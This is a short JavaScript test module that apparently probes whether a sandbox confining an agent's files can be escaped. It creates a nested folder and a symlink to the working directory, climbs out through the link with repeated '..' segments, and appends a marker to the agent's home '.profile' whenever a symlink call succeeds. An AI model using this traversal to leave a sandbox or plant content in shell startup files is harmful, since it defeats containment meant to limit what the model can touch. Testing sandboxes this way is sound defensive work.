// A link to its own folder, deep inside: the way up from there is read as inside, and goes outside.
import fs from 'node:fs';
import { join } from 'node:path';

export default (ctx) => {
  const here = process.cwd();
  const ups = here.split('/').length - 1;
  const deep = join(here, ...Array.from({ length: ups + 3 }, (_, at) => String(at)));
  fs.mkdirSync(deep, { recursive: true });
  const link = join(deep, 'link');
  const outside = link + '/..'.repeat(ups) + ctx.env.HOME_OF_AGENT;
  const ways = [
    () => fs.symlinkSync(here, link),
    () => fs.symlinkSync(Buffer.from(here), Buffer.from(link)),
    () => fs.promises.symlink(here, link),
  ];
  return (async () => {
    for (const way of ways) {
      const made = await Promise.resolve()
        .then(way)
        .then(
          () => 'got',
          (error) => `refused ${error.code}`,
        );
      console.log('link:', made);
      if (made === 'got') fs.appendFileSync(`${outside}/.profile`, 'planted');
    }
  })();
};
